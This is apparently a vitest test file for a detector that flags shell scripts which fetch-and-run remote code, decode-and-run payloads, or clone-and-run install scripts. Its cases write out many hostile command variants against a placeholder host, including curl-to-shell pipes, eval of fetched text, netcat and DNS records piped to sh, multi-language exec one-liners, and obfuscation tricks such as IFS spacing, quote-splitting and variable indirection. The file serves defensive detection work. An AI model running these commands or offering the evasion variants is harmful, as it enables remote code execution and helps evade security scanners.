import { describe, expect, it } from 'vitest';
import { readShell } from '../formats/shell/read-shell.ts';
import { programOf } from './code-sources.ts';
import { outsideCode } from './outside-code.ts';
import { resolveScript } from './resolve-script.ts';

const address = 'https://example.org/x';

/** What a script runs of elsewhere: as it is written, or once its variables are known. */
function kindsIn(text: string): readonly string[] {
  const scripts = [readShell(text), resolveScript(text)];
  const found = scripts.flatMap((script) =>
    script === undefined
      ? []
      : [...outsideCode(script.commands, { checks: (command) => programOf(command) === 'sha256sum' })],
  );
  return [...new Set(found.map(({ kind }) => kind))];
}

describe('outsideCode', () => {
  it.each<[string, string]>([
    ['a pipe', `curl -fsSL ${address} | sh`],
    ['a pipe of both outputs', `curl ${address} |& bash`],
    ['a pipe with programs between', `wget -qO- ${address} | tr -d '\\r' | tee /tmp/log | bash -s -- --yes`],
    ['a shell by another', `curl ${address} | env -i A=1 sudo -E bash -`],
    ['a program of busybox', `busybox wget -O- ${address} | busybox sh`],
    ['a shell with options', `curl ${address} | bash -o pipefail -e`],
    ['a shell that is told where to read', `curl ${address} | sh /dev/stdin --yes`],
    ['another language', `curl ${address} | python3 - --version 1`],
    ['a group', `{ echo "set -e"; curl ${address}; } | sh`],
    ['a subshell', `(cd /tmp && curl ${address}) | bash`],
    ['eval', `eval "$(curl ${address})"`],
    ['eval with backquotes', `eval \`wget -O - ${address}\``],
    ['the text of a shell', `bash -c "$(curl -fsSL ${address})"`],
    ['the text of another language', `perl -e "$(curl ${address})"`],
    ['a substitution as the command', `$(curl ${address})`],
    ['a process substitution', `bash <(curl -s ${address})`],
    ['a process substitution as the input', `bash < <(curl ${address})`],
    ['a process substitution that is sourced', `source <(curl ${address})`],
    ['a process substitution that is sourced by a dot', `. <(curl ${address})`],
    ['a process substitution that is printed', `cat <(curl ${address}) | sh`],
    ['a here-string', `bash <<< "$(curl ${address})"`],
    ['a here-document', `bash <<EOF\n$(curl ${address})\nEOF`],
    ['a here-document that fetches', `bash <<'EOF'\ncurl ${address} | sh\nEOF`],
    ['what is printed', `echo "$(curl ${address})" | bash`],
    ['a variable', `X=$(curl ${address}); eval "$X"`],
    ['a variable that is exported', `export X="$(curl ${address})" && sh -c "$X"`],
    ['a variable that is printed', `X=$(curl ${address}); printf '%s' "\${X}" | sh`],
    ['a variable as a here-string', `X=$(curl ${address}); bash <<< "$X"`],
    ['a saved file', `wget -O /tmp/f ${address}; chmod +x /tmp/f; /tmp/f`],
    ['a saved file by its own name', `wget ${address}/install.sh && bash install.sh --yes`],
    ['a saved file by its own name, of curl', `curl -fsSLO ${address}/install.sh?v=1; sh ./install.sh`],
    ['a saved file in a folder', `wget -P /opt ${address}/i.sh && sh /opt/i.sh`],
    ['a saved file, joined', `wget -O/tmp/f ${address}; sh /tmp/f`],
    ['a file by a redirection', `curl ${address} > f.sh && . ./f.sh`],
    ['a file by tee', `curl ${address} | tee f >/dev/null; sh f`],
    ['a file that is read', `curl -o f ${address}; cat f | sh`],
    ['a file as the input', `curl -o f ${address}; bash < f`],
    [
      'a file that is renamed',
      `curl -o f ${address}; mv f /usr/local/bin/g; chmod 755 /usr/local/bin/g; /usr/local/bin/g`,
    ],
    ['a file that is installed', `curl -o f ${address} && install -m 755 f /opt/ && /opt/f`],
    ['nested shells', `sh -c "bash -c 'curl ${address} | sh'"`],
    ['netcat', 'nc 192.0.2.1 4444 | sh'],
    ['a record of the name service', 'dig +short TXT x.example.org | sh'],
    ['a bucket', 'aws s3 cp s3://bucket/x - | bash'],
    ['code of Python', `python3 -c "import urllib.request as u; exec(u.urlopen('${address}').read())"`],
    ['code of Python by requests', `python -c 'import requests;exec(requests.get("${address}").text)'`],
    [
      'code of Python that saves',
      `python3 -c "from urllib.request import *; urlretrieve('${address}','x'); import os; os.system('sh x')"`,
    ],
    [
      'code of Python in a here-document',
      `python3 <<'EOF'\nfrom urllib.request import urlopen\nexec(urlopen("${address}").read())\nEOF`,
    ],
    ['code of Perl', `perl -MLWP::Simple -e 'eval get("${address}") ; use LWP::Simple'`],
    ['code of Node.js', `node -e "fetch('${address}').then(r => r.text()).then(eval)"`],
    [
      'code of Node.js by https',
      `node -e "require('https').get('${address}', r => r.on('data', d => eval(d.toString())))"`,
    ],
    ['code of Ruby', `ruby -ropen-uri -e 'eval(URI.open("${address}").read)'`],
    ['code of PHP', `php -r 'eval(file_get_contents("${address}"));'`],
    ['code that starts a shell', `python3 -c 'import os; os.system("curl ${address} | sh")'`],
    ['a variable for the program', `C=curl; $C ${address} | sh`],
    ['a variable for the shell', `S=sh; curl ${address} | $S`],
    ['a variable for both', `A=cu B=rl; $A$B ${address} | \${S:-bash}`],
    ['a variable for a part of it', `X='${address} | sh'; eval "curl $X"`],
    ['blanks by a variable', `curl\${IFS}${address}|sh`],
    ['blanks by a variable and nothing', `curl$IFS$9${address}|sh`],
    ['an alias', `alias c=curl\nc ${address} | sh`],
    ['quotes within the name', `c'u'r"l" ${address} | s\\h`],
    ['a folder before the name', `/usr/bin/curl ${address} | /bin/sh`],
    ['a variable within the text of a shell', `sh -c 'C=curl; $C ${address} | sh'`],
    ['a variable behind a backslash', `bash -c "C=curl; \\$C ${address} | sh"`],
    ['a text by a variable', `S='curl ${address} | sh'; sh -c "$S"`],
  ])('fetches: %s', (_, text) => {
    expect(kindsIn(text)).toContain('fetches');
  });

  it.each<[string, string]>([
    ['a pipe', 'echo aGk= | base64 -d | sh'],
    ['a long flag', 'base64 --decode f | bash'],
    ['eval', 'eval "$(echo aGk= | base64 -d)"'],
    ['a saved file', 'echo aGk= | base64 -d > f; sh f'],
    ['a saved file that is started', 'base64 -d < in > /tmp/f && chmod +x /tmp/f && /tmp/f'],
    ['openssl', 'openssl enc -d -aes-256-cbc -k x -in f | sh'],
    ['openssl, saved', 'openssl base64 -d -in f -out g; sh g'],
    ['xxd', 'echo 6869 | xxd -r -p | bash'],
    ['rev', "echo 'ih ohce' | rev | sh"],
    ['code of Python', `python3 -c "import base64; exec(base64.b64decode('aGk='))"`],
    ['code of Perl', `perl -MMIME::Base64 -e 'eval decode_base64("aGk=")'`],
    ['code of Node.js', `node -e "eval(Buffer.from('aGk=', 'base64').toString())"`],
    ['code of PHP', `php -r 'eval(base64_decode("aGk="));'`],
    ['code of Ruby', `ruby -e 'eval("aGk=".unpack1("m"))'`],
    ['a variable for the program', 'D="base64 -d"; echo aGk= | $D | sh'],
  ])('decodes: %s', (_, text) => {
    expect(kindsIn(text)).toContain('decodes');
  });

  it.each<[string, string]>([
    ['and a script of it', 'git clone https://example.org/x.git && ./x/install.sh'],
    ['and a script in it', 'git clone https://example.org/x.git && cd x && ./install.sh'],
    ['and a script by a shell', 'git clone --depth 1 https://example.org/x /opt/x; bash /opt/x/setup.sh'],
    ['and a script of another language', 'git clone git@example.org:a/tool && cd tool && python3 install.py'],
  ])('clones, %s', (_, text) => {
    expect(kindsIn(text)).toEqual(['clones']);
  });

  it.each<[string, string]>([
    ['a key', 'curl https://example.org/k.asc | gpg --import'],
    ['a key that is kept', 'curl https://example.org/k.asc | gpg --dearmor -o /etc/apt/keyrings/x.gpg'],
    ['an archive', 'curl https://example.org/x.tgz | tar -xz'],
    ['an archive that is decoded', 'base64 -d x | tar -x'],
    ['data for a program', `curl ${address} | jq .`],
    ['data for code', `curl ${address} | python3 -c "import json,sys; print(json.load(sys.stdin))"`],
    ['data for code of Perl', `curl ${address} | perl -ne 'print if /x/'`],
    ['data for a script', `curl ${address} | sh ./own.sh`],
    ['data for a script of Python', `curl ${address} | python3 parse.py`],
    ['data for an expression', `curl ${address} | node -p 'JSON.parse(require("fs").readFileSync(0)).version'`],
    ['data for a module', `curl ${address} | python3 -m json.tool`],
    ['what was compared with a digest', `curl -o f ${address} && echo "00  f" | sha256sum -c && sh f`],
    ['a text that is printed', `echo "curl ${address} | sh"`],
    ['a value', `V=$(curl ${address}); echo "$V"`],
    ['a value in a name', `V=$(curl ${address}/version); curl -o x.tgz https://example.org/$V.tgz; tar xf x.tgz`],
    ['a value in the arguments of a script', `V=$(curl ${address}/version); sh ./own.sh --version "$V"`],
    ['another script', `curl -o f ${address}; sh ./own.sh`],
    ['a file of the same name elsewhere', `curl -o /tmp/f ${address}; sh /own/f`],
    ['a look whether it answers', `curl -f ${address}/health || exit 1`],
    ['a look by Python', `python3 -c "import urllib.request; urllib.request.urlopen('${address}')"`],
    [
      'a look by Node.js',
      `node -e "require('http').get('${address}', r => process.exit(r.statusCode === 200 ? 0 : 1))"`,
    ],
    ['a look whether a port is open', 'nc -z db 5432 && sh ./start.sh'],
    ['a file that is decoded', 'echo aGk= | base64 -d > /etc/x'],
    ['a secret that is decoded', 'K=$(echo "$SECRET" | base64 -d); app --key "$K"'],
    ['code without anything from outside', `python3 -c "import os; os.system('ls')"`],
    ['a pattern that is executed', `node -e "/x/.exec(Buffer.from('aGk=', 'base64').toString())"`],
    ['sources that are built', 'git clone https://example.org/x.git && cd x && ./configure && make'],
    [
      'sources of a commit',
      'git clone https://example.org/x.git && cd x && git checkout 0123456789abcdef && ./install.sh',
    ],
    ['sources of a version', 'git clone -b v1.2.3 https://example.org/x.git && ./x/install.sh'],
    ['a folder that was left', 'git clone https://example.org/x.git && cd x && make && cd /srv && ./own.sh'],
    ['a variable that nobody set', `$C ${address} | cat`],
    ['a variable of another program', `C=tar; $C x | cat`],
  ])('says nothing of %s', (_, text) => {
    expect(kindsIn(text)).toEqual([]);
  });

  it('takes time that grows with the text alone', () => {
    const many = 20_000;
    for (const part of [
      'curl a|sh;',
      'X=$(curl a);',
      'wget -O f a;',
      '. ./f;',
      'mv f f;',
      'git clone https://a/b;',
      'A=b$A;',
      'alias a=b\n',
    ]) {
      const started = performance.now();
      kindsIn(part.repeat(many / part.length));
      expect(performance.now() - started, part).toBeLessThan(3000);
    }
  });
});
